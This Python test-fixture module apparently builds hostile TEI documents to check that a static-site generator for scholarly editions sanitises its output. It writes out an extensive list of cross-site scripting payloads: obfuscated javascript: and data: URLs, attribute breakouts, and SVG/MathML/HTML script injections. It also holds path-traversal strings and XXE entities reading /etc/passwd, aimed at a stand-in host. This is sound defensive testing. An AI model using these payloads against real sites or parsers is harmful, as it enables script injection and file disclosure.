"""Attacks on the readers of a site, as TEI that somebody may hand in: made of a table of tricks and one of places.

An attack that works runs `attacked` or asks `attack.invalid` for something; the tests look for both. The tricks are put
into documents as they are, so they are written as XML has them: `&#10;` is a line feed in an attribute.
"""

# ruff: noqa: E501 - a trick stands in one line, as it would be handed in

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from xml.sax.saxutils import escape, quoteattr

from small_editions import person, register, tei

RUN = "window.attacked=1;alert(1)"
HOST = "attack.invalid"
XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'
SVG = 'xmlns:svg="http://www.w3.org/2000/svg"'
MATHML = 'xmlns="http://www.w3.org/1998/Math/MathML"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

# Addresses, as they stand between the quotation marks of an attribute.
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"&#9;javascript:{RUN}",
    f"&#10;javascript:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&#13;script:{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"javascript&#10;:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#x80;javascript:{RUN}",
    f"&#x85;javascript:{RUN}",
    f"&#xA0;javascript:{RUN}",
    f"&#x2028;javascript:{RUN}",
    f"&#xFEFF;javascript:{RUN}",
    f"&#x200B;javascript:{RUN}",
    f"javascript&#xFF1A;{RUN}",
    f"javascript://%0A{RUN}",
    f"javascript://{HOST}/%0A{RUN}",
    f"# javascript:{RUN}",
    f"http://{HOST}/ javascript:{RUN}",
    f"vbscript:{RUN}",
    f"VBScript:{RUN}",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+",
    f"DATA:image/svg+xml,&lt;svg xmlns=&#39;http://www.w3.org/2000/svg&#39; onload=&#39;{RUN}&#39;/&gt;",
    f"data&#9;:text/html,&lt;script&gt;{RUN}&lt;/script&gt;",
    f"blob:http://{HOST}/1",
    f"filesystem:http://{HOST}/temporary/x.html",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:http://{HOST}/x.jar!/x.html",
    "file:///etc/passwd",
    "about:srcdoc",
    f"//{HOST}/x.png",
    f"\\\\{HOST}\\x.png",
    f"/\\{HOST}/x.png",
    f"\\/{HOST}/x.png",
    f"/&#9;/{HOST}/x.png",
    f"http:{HOST}/x.png",
    f"http:\\\\{HOST}\\x.png",
    f"https://{HOST}/x.png",
    f"HTTP://{HOST}/x.png",
    f"http://{HOST}/&quot;onmouseover=&quot;{RUN}",
    f"http://{HOST}/&#39;onmouseover=&#39;{RUN}",
    f"http://{HOST}/&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"http://{HOST}/x?a=1&amp;lt;script&amp;gt;",
    f"ftp://{HOST}/x.png",
    f"mailto:a@{HOST}?body=&lt;script&gt;{RUN}&lt;/script&gt;",
    f"mailto:a@{HOST}&#13;&#10;Bcc:b@{HOST}",
    f"wss://{HOST}/",
    "../../../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/edition.toml",
    "..\\..\\..\\edition.toml",
    "images/../../edition.toml",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "images/link.png",
    "images/picture.svg",
    "images/page.png",
    "images/x.png&#0034; onerror=&#0034;attacked=1",
    "../persons/index.html#&lt;script&gt;",
    "#&quot;&gt;&lt;script&gt;",
    "#__proto__",
    "constructor",
)

# Where an address may stand.
PLACES = (
    "<p><ref target='{}'>words</ref></p>",
    "<p><ptr target='{}'/></p>",
    "<p><hi><ref target='{}'>a <ref target='{}'>nested</ref></ref></hi></p>",
    "<p><graphic url='{}'/></p>",
    "<figure><graphic url='{}' width='1px;x:expression(attacked=1)' height='100%'/><figDesc>d</figDesc></figure>",
    "<p><media url='{}' mimeType='audio/ogg'/><media url='{}' mimeType='text/html'/></p>",
    "<p><binaryObject url='{}' mimeType='image/svg+xml'>PHN2Zz4=</binaryObject></p>",
    "<pb facs='{}' n='1' corresp='{}'/>",
    "<p facs='{}' source='{}' resp='{}' rendition='{}' hand='{}' wit='{}' corresp='{}'>x</p>",
    "<p><persName ref='{}' key='{}' source='{}'>P</persName><placeName ref='{}'>Q</placeName><orgName key='{}'>R</orgName></p>",
    "<p><term ref='{}' target='{}'>t</term><title ref='{}'>w</title><date ref='{}' when='{}'>d</date></p>",
    "<p>a<note target='{}' source='{}'>n</note><app><lem wit='{}'>l</lem><rdg wit='{}' resp='{}'>r</rdg></app></p>",
    "<p><add hand='{}'>a</add><handShift new='{}'/><gap reason='{}' extent='{}'/><space extent='{}'/></p>",
    "<p xml:base='{}'><seg ana='{}' next='{}' prev='{}' copyOf='{}' sameAs='{}'>s</seg><ref xml:base='{}' target='y'>z</ref></p>",
    "<div type='translation' corresp='{}'><p>t</p></div>",
)

# Values that try to leave their attribute or to be taken for one that means something.
VALUES = (
    f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#39;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"x&quot; onclick=&quot;{RUN}&quot; autofocus onfocus=&quot;{RUN}",
    f"x' onmouseover='{RUN}".replace("'", "&#39;"),
    f"`onload={RUN}",
    f"background:url(//{HOST}/x.png)",
    f"background-image:url(javascript:{RUN});behavior:url(#default#time2)",
    f"}}</style><script>{RUN}</script>".replace("<", "&lt;"),
    "color:expression(attacked=1)",
    "-->&lt;script>attacked=1&lt;/script>",
    "]]&gt;&lt;script&gt;attacked=1&lt;/script&gt;",
    "{{constructor.constructor('attacked=1')()}}".replace("'", "&#39;"),
    "${attacked=1}",
    "&lt;!--",
    "&#x202E;txet esrever",
    "1e999",
    "-1",
    "99999999999999999999",
    "__proto__",
    "constructor",
    "main",
    "readings",
    "search-form",
    "attributes",
    "note-1",
    "call-1",
    "x y z",
    "../../../x",
    "\u0430" * 5000,
)

# Elements with an attribute to fill.
VALUED = (
    "<p xml:id='{}' n='{}'>x</p>",
    "<p rend='{}' rendition='{}' style='{}'>x</p><p><hi rend='{}'>h</hi><hi style='{}'>h</hi></p>",
    "<p xml:lang='{}'>x <foreign xml:lang='{}'>y</foreign></p>",
    "<p>a<note n='{}' type='{}' subtype='{}' place='{}' resp='{}' xml:id='{}'>b</note></p>",
    "<pb n='{}'/><p><cb n='{}'/><milestone unit='{}' n='{}'/><lb n='{}' break='{}'/>x<fw type='{}' place='{}'>y</fw></p>",
    "<p><gap reason='{}' unit='{}' quantity='{}' extent='{}'/><space unit='{}' quantity='{}'/><damage degree='{}'>x</damage></p>",
    "<table rows='{}' cols='{}'><row role='{}'><cell cols='{}' rows='{}' role='{}' rend='{}'>x</cell></row></table>",
    "<list type='{}' rend='{}'><item n='{}'>x</item></list>",
    "<div type='{}' subtype='{}' n='{}'><head type='{}' level='{}'>x</head></div>",
    "<p><persName type='{}' role='{}' key='{}'>x</persName><name type='{}'>y</name><title level='{}' type='{}'>z</title></p>",
    "<p><choice><sic cert='{}'>a</sic><corr resp='{}' type='{}'>b</corr></choice><add place='{}'>c</add><del rend='{}'>d</del></p>",
    "<p><formula notation='{}'>E</formula><g ref='{}' type='{}'>k</g><measure unit='{}' quantity='{}'>m</measure></p>",
)


def _html(element: str) -> str:
    return f"<p {XHTML}>before {element} after</p>"


# Elements of the web's own languages, and texts that look like them.
MARKUP = (
    "<p><script>attacked=1</script><style>*{{}}</style><iframe src='//attack.invalid'>f</iframe></p>",
    "<p><img src='x' onerror='attacked=1'/><object data='//attack.invalid'>o</object><base href='//attack.invalid'/></p>",
    "<p onclick='attacked=1' onload='attacked=1' srcdoc='x' srcset='//attack.invalid/x.png' href='javascript:attacked=1'>x</p>",
    "<p><form action='//attack.invalid'><input autofocus='' onfocus='attacked=1'/><button formaction='javascript:attacked=1'>b</button></form></p>",
    *map(
        _html,
        (
            f"<h:script>{RUN}</h:script>",
            f"<h:script src='http://{HOST}/x.js'/>",
            f"<h:SCRIPT>{RUN}</h:SCRIPT>",
            f"<h:img src='x' onerror='{RUN}'/>",
            f"<h:img src='http://{HOST}/x.png' srcset='http://{HOST}/y.png 2x'/>",
            f"<h:iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'/>",
            f"<h:iframe src='javascript:parent.{RUN}'/>",
            f"<h:object data='http://{HOST}/x.swf'/><h:embed src='http://{HOST}/x.swf'/>",
            f"<h:base href='http://{HOST}/'/>",
            f"<h:meta http-equiv='refresh' content='0;url=http://{HOST}/'/>",
            f"<h:meta http-equiv='refresh' content='0;url=javascript:{RUN}'/>",
            "<h:meta http-equiv='Content-Security-Policy' content='script-src *'/>",
            f"<h:link rel='stylesheet' href='http://{HOST}/x.css'/><h:link rel='dns-prefetch' href='//{HOST}'/>",
            f"<h:style>@import url(http://{HOST}/x.css);</h:style>",
            f"<h:p style='background:url(http://{HOST}/x.png)'>x</h:p>",
            f"<h:a href='javascript:{RUN}'>click</h:a>",
            f"<h:a href='http://{HOST}/' ping='http://{HOST}/ping'>click</h:a>",
            f"<h:form action='http://{HOST}/'><h:input autofocus='' onfocus='{RUN}'/></h:form>",
            f"<h:button formaction='javascript:{RUN}'>b</h:button>",
            f"<h:body onload='{RUN}' background='http://{HOST}/x.png'>x</h:body>",
            f"<h:details open='' ontoggle='{RUN}'><h:summary>s</h:summary>x</h:details>",
            f"<h:video autoplay='' poster='http://{HOST}/x.png'><h:source src='x' onerror='{RUN}'/></h:video>",
            f"<h:audio src='http://{HOST}/x.ogg' autoplay=''/>",
            f"<h:marquee onstart='{RUN}'>x</h:marquee>",
            f"<h:template>{RUN}</h:template><h:noscript>&lt;img src=x onerror={RUN}&gt;</h:noscript>",
            f"<h:plaintext>x</h:plaintext><h:xmp>&lt;img src=x onerror={RUN}&gt;</h:xmp>",
            f"<h:textarea>&lt;/textarea&gt;&lt;script&gt;{RUN}&lt;/script&gt;</h:textarea>",
            f"<h:title>&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;</h:title>",
            f"<h:math><h:mtext><h:img src='x' onerror='{RUN}'/></h:mtext></h:math>",
            f"<h:frameset onload='{RUN}'><h:frame src='http://{HOST}/'/></h:frameset>",
            f"<h:portal src='http://{HOST}/'/><h:fencedframe src='http://{HOST}/'/>",
            f"<h:x-own onclick='{RUN}' id='main' name='attacked'>x</h:x-own>",
        ),
    ),
    f"<p {SVG}><svg:svg onload='{RUN}'><svg:script>{RUN}</svg:script></svg:svg></p>",
    f"<p {SVG} {XLINK}><svg:svg><svg:a xlink:href='javascript:{RUN}'><svg:text>t</svg:text></svg:a></svg:svg></p>",
    f"<p {SVG}><svg:svg><svg:a><svg:animate attributeName='href' values='javascript:{RUN}'/></svg:a></svg:svg></p>",
    f"<p {SVG} {XLINK}><svg:svg><svg:image xlink:href='http://{HOST}/x.png'/><svg:use href='http://{HOST}/x.svg#a'/></svg:svg></p>",
    f"<p {SVG} {XHTML}><svg:svg><svg:foreignObject><h:script>{RUN}</h:script></svg:foreignObject></svg:svg></p>",
    f"<p {SVG}><svg:svg><svg:style>@import '//{HOST}/x.css'</svg:style><svg:set onbegin='{RUN}'/></svg:svg></p>",
    f"<figure {SVG}><svg:svg xml:id='f'><svg:title>&lt;/svg&gt;&lt;script&gt;{RUN}&lt;/script&gt;</svg:title></svg:svg></figure>",
    f"<p><formula><math {MATHML} onclick='{RUN}' href='javascript:{RUN}'><mi style='x' onmouseover='{RUN}'>x</mi></math></formula></p>",
    f"<p><formula><math {MATHML} {XLINK}><maction actiontype='statusline#x' xlink:href='javascript:{RUN}'><mi>x</mi></maction></math></formula></p>",
    f"<p><formula><math {MATHML}><mglyph src='http://{HOST}/x.png'/><mtext {XHTML}><h:script>{RUN}</h:script></mtext></math></formula></p>",
    f"<p><formula><math {MATHML}><semantics><annotation-xml encoding='text/html' {XHTML}><h:img src='x' onerror='{RUN}'/></annotation-xml></semantics></math></formula></p>",
    f"<p><formula><math {MATHML}><mtext>&lt;/mtext&gt;&lt;/math&gt;&lt;img src=x onerror={RUN}&gt;</mtext></math></formula></p>",
    f"<p><![CDATA[<script>{RUN}</script><img src=x onerror={RUN}>]]></p>",
    f"<p><![CDATA[</p></article></main></body><script>{RUN}</script>]]></p>",
    f"<p>&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;</p>",
    f"<p>--&gt;&lt;script&gt;{RUN}&lt;/script&gt;&lt;!-- &lt;/title&gt;&lt;/style&gt;&lt;/textarea&gt;&lt;/noscript&gt;</p>",
    f"<p>x<!-- ><script>{RUN}</script> --><?xml-stylesheet href='javascript:{RUN}'?><?php {RUN} ?></p>",
    f"<p>\\');{RUN}// \\u003cscript\\u003e */{RUN}/* &#x2028;{RUN}&#x2029; &lt;/script&gt;&lt;script&gt;{RUN}</p>",
    f"<p>+ADw-script+AD4-{RUN}+ADw-/script+AD4- &#xFF1C;script&#xFF1E; &#x2039;script&#x203A;</p>",
    "<p>&lt;base href=//attack.invalid&gt;&lt;meta http-equiv=refresh content='0;url=//attack.invalid'&gt;</p>",
    f"<p {XHTML} h:onclick='{RUN}' h:style='x' {XLINK} xlink:href='javascript:{RUN}' xlink:actuate='onLoad' xlink:show='replace'>x</p>",
    "<p xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load' ev:handler='javascript:attacked=1'>x</p>",
    f"<egXML xmlns='http://www.tei-c.org/ns/Examples'><script a='&quot;&gt;&lt;script&gt;{RUN}'>{RUN}</script></egXML>",
    f"<p><code>&lt;img src=x onerror={RUN}&gt;</code><gi>script</gi><tag>img src=x onerror={RUN}</tag></p>",
    "<p xml:id='images'>a<note xml:id='forms'>b</note><seg xml:id='cookie'>c</seg><seg xml:id='head'>d</seg></p>",
)

# Words for titles, names and all else that records and registers hold.
WORDS = (
    f"</title><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"\\u003cscript\\u003e \\');{RUN}//",
    f"--><script>{RUN}</script><!--",
    f"javascript:{RUN}",
    f"https://{HOST}/\"onclick='{RUN}'",
    f"]]><script>{RUN}</script>",
    "\u2028\u2029*/attacked=1/*",
    "{{attacked=1}} ${attacked=1} <%= attacked=1 %>",
    "\u202e gnp.exe",
    "__proto__",
)

# An editor's own words are no attack, but they may hold what looks like markup.
CONFIGURATION = f"""
[edition]
title = 'Attacks</title><script>{RUN}</script>'
subtitle = '"><img src=x onerror={RUN}>'
editors = ['<b>A</b>']
publisher = '<script>{RUN}</script>'
licence = 'https://{HOST}/"onclick={RUN}'
rights = ']]><script>{RUN}</script>'
url = 'https://example.org/'
[collection]
name = '--><script>{RUN}</script>'
holder = '{{{{attacked=1}}}}'
"""

# Ids and file names that want to lie elsewhere.
NAMES = ("../../../evil", "..\\evil", "/etc/evil", "a/b/c", "CON", "index", ".htaccess", "x onload=alert(1)", "n" * 400)
FILES = (
    "x' onmouseover='attacked=1.xml",
    '"><script>attacked=1.xml',
    "a&b<c>.xml",
    "javascript:attacked=1.xml",
    "..xml",
)


@dataclass(frozen=True)
class Attack:
    """A source that attacks: the name of its file, its bytes, and how many tricks are in it."""

    file: str
    source: str
    tricks: int


def attacks() -> Iterator[Attack]:
    """Yield all attacks, each a source of its own."""
    filled = (place.replace("{}", address) for address in ADDRESSES for place in PLACES)
    yield from _bodies("address", filled, 5 * len(PLACES))
    yield from _bodies("value", (each.replace("{}", value) for value in VALUES for each in VALUED), 4 * len(VALUED))
    yield from _bodies("markup", MARKUP, 3)
    yield from _facsimiles()
    for number, words in enumerate(WORDS):
        yield Attack(f"words-{number:02}.xml", _record(words), 1)
        yield Attack(f"register-{number:02}.xml", _register(number, words), 1)
    for number, name in enumerate(NAMES):
        yield Attack(f"name-{number:02}.xml", tei(attributes=f"xml:id={quoteattr(name)}"), 1)
    for name in FILES:
        yield Attack(name, tei("<p>x</p>", title=name.replace("&", "").replace("<", "")), 1)
    doctype = f"<!DOCTYPE TEI [<!ENTITY s '&#60;script xmlns=\"http://www.w3.org/1999/xhtml\">{RUN}&#60;/script>'>]>"
    yield Attack("doctype.xml", doctype + tei("<p>a &s; b</p>"), 1)
    yield Attack("external.xml", '<!DOCTYPE TEI [<!ENTITY s SYSTEM "file:///etc/passwd">]>' + tei("<p>&s;</p>"), 1)
    yield Attack("dtd.xml", f'<!DOCTYPE TEI SYSTEM "http://{HOST}/x.dtd">' + tei(), 1)
    yield Attack("instruction.xml", f'<?xml-stylesheet type="text/xsl" href="http://{HOST}/x.xsl"?>' + tei(), 1)
    yield Attack(
        "include.xml", tei(f'<xi:include href="http://{HOST}/x.xml"/><xi:include href="../../edition.toml"/>'), 2
    )
    yield Attack("root.xml", f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>', 1)


def _beside(address: str) -> str:
    """Return what stands beside a text: pictures with zones, recordings, stand-off notes, whose values attack."""
    return (
        f"<surface><graphic url='{address}'/><graphic url='{address}' mimeType='{address}'/><media url='{address}'"
        f" mimeType='audio/ogg'/><zone points='{address}' ulx='{address}' uly='{address}' lrx='{address}' lry='{address}'"
        f" rotate='{address}'><line facs='{address}'>l</line></zone></surface>"
    )


def _facsimiles() -> Iterator[Attack]:
    for number, values in enumerate((ADDRESSES, VALUES)):
        surfaces = "".join(map(_beside, values))
        leaves = "".join(f"<surface xml:id='s{at}'><graphic url='{each}'/></surface>" for at, each in enumerate(values))
        pages = "".join(f"<pb n='{at}' facs='#s{at}'/><p facs='#s{at}'>x</p>" for at in range(len(values)))
        notes = "".join(f"<note target='{each}'>n</note><note target='#body'>m</note>" for each in values)
        hands = "".join(f"<handNote xml:id='h{at}' scribe='{each}'>h</handNote>" for at, each in enumerate(values))
        header = f"<profileDesc><handNotes>{hands}</handNotes></profileDesc>"
        shifts = "".join(f"<handShift new='#h{at}'/>y" for at in range(len(values)))
        body = f"<div xml:id='body'>{pages}<p>{shifts}</p></div>"
        beside = (
            f"<facsimile>{leaves}{surfaces}</facsimile><sourceDoc>{surfaces}</sourceDoc>"
            f"<standOff><listAnnotation>{notes}</listAnnotation>{notes}</standOff><text>"
        )
        source = tei(body, title=f"Beside {number}", header=header).replace("<text>", beside, 1)
        yield Attack(f"beside-{number}.xml", source, 12 * len(values))


def _bodies(name: str, contents: Iterable[str], many: int) -> Iterator[Attack]:
    """Yield documents that hold `many` of the contents each, every one in a division of its own."""
    rest = list(contents)
    for number, start in enumerate(range(0, len(rest), many)):
        part = rest[start : start + many]
        body = "".join(f"<div>{each}</div>" for each in part)
        yield Attack(f"{name}-{number:02}.xml", tei(body, title=f"{name} {number}"), len(part))


def _record(words: str) -> str:
    """Return a document with `words` wherever a header has any."""
    text, attribute = escape(words), quoteattr(words)
    title = f"{text}</title><title type='sub'>{text}</title><author ref={attribute}>{text}</author><title type='x'>"
    more = f"""<profileDesc><abstract source={attribute}><p>{text}</p></abstract><creation><date type={attribute}
        when={attribute}>{text}</date></creation><langUsage><language ident={attribute}>{text}</language></langUsage>
        <textClass><keywords scheme={attribute}><term ref={attribute}>{text}</term></keywords></textClass>
        <correspDesc><correspAction type="sent"><persName ref={attribute}>{text}</persName></correspAction>
        <correspContext><ref type={attribute} target={attribute}>{text}</ref></correspContext></correspDesc></profileDesc>"""
    source = f"""<publicationStmt><idno type={attribute}>{text}</idno><availability status={attribute}><licence
        target={attribute}>{text}</licence></availability></publicationStmt><seriesStmt><title>{text}</title>
        <biblScope unit="item" n={attribute}/></seriesStmt><notesStmt><note type={attribute}>{text}</note><relatedItem
        type={attribute} target={attribute}>{text}</relatedItem></notesStmt><sourceDesc><msDesc><msIdentifier><repository>
        {text}</repository><idno type={attribute}>{text}</idno></msIdentifier><physDesc><objectDesc><supportDesc>
        <extent>{text}</extent></supportDesc></objectDesc></physDesc></msDesc><bibl type="online"><ref target={attribute}/>
        </bibl><note type="classification">{text}</note></sourceDesc>"""
    whole = tei(f"<p><persName ref={attribute}>{text}</persName> {text}</p>", title=title, header=more)
    return whole.replace("<publicationStmt><p/></publicationStmt><sourceDesc><p/></sourceDesc>", source).replace(
        "<TEI ", f"<TEI type={attribute} "
    )


def _register(number: int, words: str) -> str:
    text, attribute = escape(words), quoteattr(words)
    entries = (
        person(f"p{number}", text)
        + f"""<person xml:id={attribute}><persName type={attribute}>{text}</persName>
        <idno type={attribute}>{text}</idno><note type={attribute}>{text}</note><birth when={attribute}>{text}</birth>
        <occupation>{text}</occupation></person>"""
    )
    return register(entries)


def edition() -> Mapping[str, str | bytes]:
    """Return the files of an edition that holds all attacks, with a picture for those that ask for one."""
    sources = {f"tei/{attack.file}": attack.source for attack in attacks()}
    naming = "".join(
        f"<p><persName ref='register-{number:02}.xml#p{number}'>P</persName></p>" for number in range(len(WORDS))
    )
    return {
        "edition.toml": CONFIGURATION,
        "images/page.png": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
        "images/picture.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
        "tei/naming.xml": tei(naming, title="Naming"),
        **sources,
    }
